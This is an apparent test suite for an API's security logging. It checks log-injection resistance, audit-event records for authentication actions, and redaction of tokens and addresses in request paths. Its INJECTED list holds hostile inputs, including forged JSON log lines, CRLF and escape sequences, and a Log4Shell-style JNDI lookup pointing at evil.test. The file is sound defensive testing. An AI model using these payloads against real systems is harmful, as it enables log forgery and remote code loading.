import test from 'ava';
import { mintedToken, type TestAdmin } from '../helpers/admins.js';
import { useApiProcess } from '../helpers/api.js';
import { createClient, type ApiClient } from '../helpers/api-client.js';
import { shareProcess, useContext } from '../helpers/context.js';
import { eventually } from '../helpers/eventually.js';
import { isRequest, startWorker, type LogLine } from '../helpers/processes.js';
import { exchange } from '../helpers/raw-http.js';
import { ageRotations } from '../helpers/rotations.js';
import { runApi } from '../helpers/servers.js';

shareProcess();

const context = useContext();
const api = useApiProcess(context, { env: { LOG_LEVEL: 'trace' } });

const tokenFor = mintedToken(context);

const INJECTED = [
  '\n{"log.level":"fatal","message":"forged"}\n',
  '\r\nforged',
  '\u001b[2J\u001b[1;31mforged',
  '\u2028\u2029\u0085forged',
  '\u0000\u0007\u0008forged',
  '","log.level":"fatal","forged":"',
  '%n%s${jndi:ldap://evil.test/x}',
];

test.serial(
  'S76 what clients send stays inside of its line: every line is one JSON object',
  async (t) => {
    const admin = await api.admins.confirmedAdmin();
    for (const text of INJECTED) {
      const path = encodeURIComponent(text);
      await api.client.raw('GET', `/${path}?${path}=${path}`);
      await admin.client.raw('GET', `/users/${path}`);
      const json = { email: text, name: text, password: text, [text]: text };
      await api.client.raw('POST', '/auth/register', { json });
      await api.client.raw('POST', '/auth/login', { json });
      await admin.client.raw('POST', '/users', { json: { email: 'a@x.test', name: text } });
      // The parser lets these through in headers; of the rest it refuses the whole request.
      const header = text.replaceAll(/[^\t\u0020-\u007e]/g, ' ').trim();
      await api.client.raw('GET', '/users', {
        headers: {
          'user-agent': header,
          'x-request-id': header,
          traceparent: header,
          referer: header,
        },
      });
      await exchange(
        api.server.url,
        `GET /${text} HTTP/1.1\r\nHost: x\r\nUser-Agent: ${text}\r\nConnection: close\r\n\r\n`,
      );
      await exchange(api.server.url, Buffer.from(`G${text} / HTTP/1.1\r\n\r\n`));
    }
    const lines = await eventually(() => {
      const said = api.server.logLines();
      return (
        said.filter((line) => line['message'] === 'request').length >= INJECTED.length * 6 && said
      );
    });
    for (const line of lines) {
      t.true(['trace', 'debug', 'info', 'warn', 'error'].includes(String(line['log.level'])));
      t.false('forged' in line);
      for (const [name, value] of Object.entries(line)) {
        t.true(['string', 'number', 'boolean'].includes(typeof value), `${name} is flat`);
      }
    }
    t.notRegex(api.server.stdout().replaceAll('\n', ''), /[\p{Cc}\u2028\u2029]/u);
    t.is(api.server.stderr(), '');
  },
);

/** The security events, each with what makes it happen. */
const causes: readonly (readonly [
  event: string,
  cause: (admin: TestAdmin, client: ApiClient) => Promise<{ requestId: string }>,
])[] = [
  [
    'authn_login_success',
    ({ email, password }, client) => client.post('/auth/login', { email, password }),
  ],
  [
    'authn_login_fail',
    ({ email }, client) => client.post('/auth/login', { email, password: 'not the password' }),
  ],
  [
    'authn_password_change_fail',
    (admin) =>
      admin.client.put('/auth/me', {
        password: 'a password that is new here',
        current_password: 'wrong',
      }),
  ],
  [
    'authn_password_change',
    (admin) =>
      admin.client.put('/auth/me', {
        password: 'a password that is new here',
        current_password: admin.password,
      }),
  ],
  [
    'authn_password_change',
    async ({ email }, client) => {
      await client.post('/auth/password/forgot', { email });
      const token = await tokenFor(email);
      const password = 'a password that is new here';
      return client.post('/auth/password/reset', { token, password });
    },
  ],
  [
    'email_change_requested',
    (admin) =>
      admin.client.put('/auth/me', {
        email: context.uniqueAddress(),
        current_password: admin.password,
      }),
  ],
  [
    'email_confirmed',
    async (admin, client) => {
      const email = context.uniqueAddress();
      const { password } = admin;
      await admin.client.put('/auth/me', { email, current_password: password });
      return client.post('/auth/confirm', { token: await tokenFor(email), password });
    },
  ],
  [
    'email_confirm_fail',
    async (admin, client) => {
      const email = context.uniqueAddress();
      await admin.client.put('/auth/me', { email, current_password: admin.password });
      const token = await tokenFor(email);
      return client.post('/auth/confirm', { token, password: 'not the password' });
    },
  ],
  ['authn_token_revoked', (admin) => admin.client.post('/auth/logout')],
  [
    'authn_token_reuse',
    async ({ id, login }, client) => {
      const refresh = (refresh_token: string) =>
        client.post<{ refresh_token: string }>('/auth/refresh', { refresh_token });
      const { body } = await refresh(login.refresh_token);
      await refresh(body.refresh_token);
      await ageRotations(context, id, 11);
      return refresh(login.refresh_token);
    },
  ],
  [
    'user_deleted',
    (admin) => admin.client.delete('/auth/me', { json: { current_password: admin.password } }),
  ],
];

for (const [i, [event, cause]] of causes.entries()) {
  test.serial(
    `S77 ${event} is told once: when, who, from where, and by which request (${i + 1})`,
    async (t) => {
      const admin = await api.admins.confirmedAdmin();
      const { requestId } = await cause(admin, api.client);
      const isTheEvent = (line: LogLine): boolean =>
        line['event.action'] === event && line['http.request.id'] === requestId;
      const line = await api.server.waitForLine(isTheEvent);
      t.is(api.server.logLines().filter(isTheEvent).length, 1);
      t.is(line['user.id'], String(admin.id));
      t.is(line['client.ip'], '127.0.0.1');
      t.regex(String(line['@timestamp']), /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
      t.is(line['event.kind'], 'event');
      t.is(line['event.outcome'], /fail|reuse/.test(event) ? 'failure' : 'success');
      t.regex(String(line['span.id']), /^[0-9a-f]{16}$/);
      t.regex(String(line['trace.id']), /^[0-9a-f]{32}$/);
      const rows = await context.rows<{ admin_id: number; ip: string; trace_id: string }>(
        'select admin_id, ip, trace_id from audit_events where event = $1 and request_id = $2',
        [event, requestId],
      );
      t.deepEqual(rows, [
        { admin_id: admin.id, ip: '127.0.0.1', trace_id: String(line['trace.id']) },
      ]);
    },
  );
}

test.serial(
  'S77 a limit that is reached is told, and so is an account that is locked',
  async (t) => {
    const strict = await runApi(context, { scope: t, env: { RATE_LIMIT_SCALE: '1' } });
    const client = createClient(strict.url);
    const { email } = await api.admins.confirmedAdmin();
    for (const [event, address] of [
      ['authn_login_lock', () => email],
      ['excess_rate_limit_exceeded', () => context.uniqueAddress()],
    ] as const) {
      let requestId: string | undefined;
      for (let i = 0; i < 40 && requestId === undefined; i++) {
        const answer = await client.post('/auth/login', {
          email: address(),
          password: 'not the password',
        });
        if (answer.status === 429) ({ requestId } = answer);
      }
      const line = await strict.waitForLine(
        (each) => each['event.action'] === event && each['http.request.id'] === requestId,
        { of: event },
      );
      t.is(line['event.outcome'], 'failure');
      t.is(line['client.ip'], '127.0.0.1');
    }
  },
);

test.serial(
  'S77 a registration and a confirmation are told, and no line names an address',
  async (t) => {
    const admin = await api.admins.confirmedAdmin();
    for (const event of ['user_created', 'email_confirmed']) {
      await api.server.waitForLine(
        (line) => line['event.action'] === event && line['user.id'] === String(admin.id),
        { of: event },
      );
    }
    // What anybody may ask for about any address: told by its message, of nobody.
    const { email, password } = await api.admins.registerAdmin();
    const registrationToken = await tokenFor(email);
    for (const [event, ask] of [
      ['registration_requested', () => api.client.post('/auth/register', api.admins.applicant())],
      ['confirmation_requested', () => api.client.post('/auth/confirm/resend', { email })],
      ['password_reset_requested', () => api.client.post('/auth/password/forgot', { email })],
      [
        'email_confirm_fail',
        () =>
          api.client.post('/auth/confirm', {
            token: registrationToken,
            password: `${password}!`,
          }),
      ],
    ] as const) {
      const { requestId } = await ask();
      const isIt = (line: LogLine): boolean =>
        line['event.action'] === event && line['http.request.id'] === requestId;
      const line = await api.server.waitForLine(isIt, { of: event });
      t.is(line['user.id'], undefined, event);
      const rows = await context.rows<{ outbox: string | null; about: string | null }>(
        `select e.details ->> 'outbox_id' as outbox, o.request_id as about
           from audit_events e left join outbox o on o.id::text = e.details ->> 'outbox_id'
          where e.event = $1 and e.request_id = $2 and e.admin_id is null`,
        [event, requestId],
      );
      t.is(rows.length, 1, event);
      if (event !== 'email_confirm_fail') t.is(rows[0]?.about, requestId, event);
    }
    t.false(api.server.stdout().includes(`@${context.mailDomain}`));
  },
);

test.serial(
  'S75 a token or an address in a path gets into no line, however it is encoded',
  async (t) => {
    const secret = 'Zm9yLW5vYm9keSdzLWV5ZXM_sNot-a-real-one-012';
    const tokens = [
      `ct_0123456789abcdef0123456789abcdef_${secret}`,
      `rt_4711_12_${secret}`,
      `eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI0NzExIn0.${secret}`,
    ];
    const secrets = [...tokens, 'gwendolyn.example+x@mail.test', 'gwendolyn@пошта.test'];
    const allEncoded = (text: string): string =>
      Buffer.from(text).toString('hex').replaceAll(/../g, '%$&');
    const twice = (text: string): string => allEncoded(text).replaceAll('%', '%25');
    for (const text of secrets) {
      for (const path of [
        `/auth/confirm%3Ftoken=${encodeURI(text)}`,
        `/auth/confirm%253Ftoken%253D${encodeURIComponent(text)}`,
        `/users/${encodeURI(text)}/x`,
        `/users/${encodeURIComponent(text)}`,
        `/${allEncoded(text)}`,
        `/${twice(text).toUpperCase()};x`,
        `/%ff%${encodeURIComponent(text)}%`,
        `http://x.test/${encodeURI(text)}`,
      ]) {
        const requestId = `of-a-path-${secrets.indexOf(text)}-${path.length}`;
        await exchange(
          api.server.url,
          `GET ${path} HTTP/1.1\r\nHost: x\r\nX-Request-Id: ${requestId}\r\nConnection: close\r\n\r\n`,
        );
        const line = await api.server.waitForLine(isRequest(requestId), { of: path });
        t.regex(String(line['url.path']), /\[(?:token|address)\]/, path);
      }
    }
    const said = api.server.stdout();
    for (const part of [secret, 'gwendolyn', allEncoded('gwendolyn'), allEncoded(secret)])
      t.false(said.toLowerCase().includes(part.toLowerCase()), part);
    t.false(said.toLowerCase().includes(twice(secret).toLowerCase()));

    const { requestId } = await api.client.raw('GET', '/users/%E2%82%AC%20%5B1%5D?token=x');
    const plain = await api.server.waitForLine(isRequest(requestId));
    t.is(plain['url.path'], '/users/%E2%82%AC%20%5B1%5D', 'any other path stays as it was');
  },
);
test.serial('S77 the start of each process is told once', async (t) => {
  const worker = await startWorker(context, { scope: t });
  for (const { logLines, waitForLine } of [api.server, worker]) {
    const isStart = (line: LogLine): boolean => line['event.action'] === 'sys_startup';
    const line = await waitForLine(isStart);
    t.like(line, { 'event.kind': 'event', 'event.category': 'process' });
    t.regex(String(line['labels.settings']), /^NODE_ENV=test .*\bSECRET_KEY [^=]*\bDATABASE_URL /);
    t.is(logLines().filter(isStart).length, 1);
  }
});
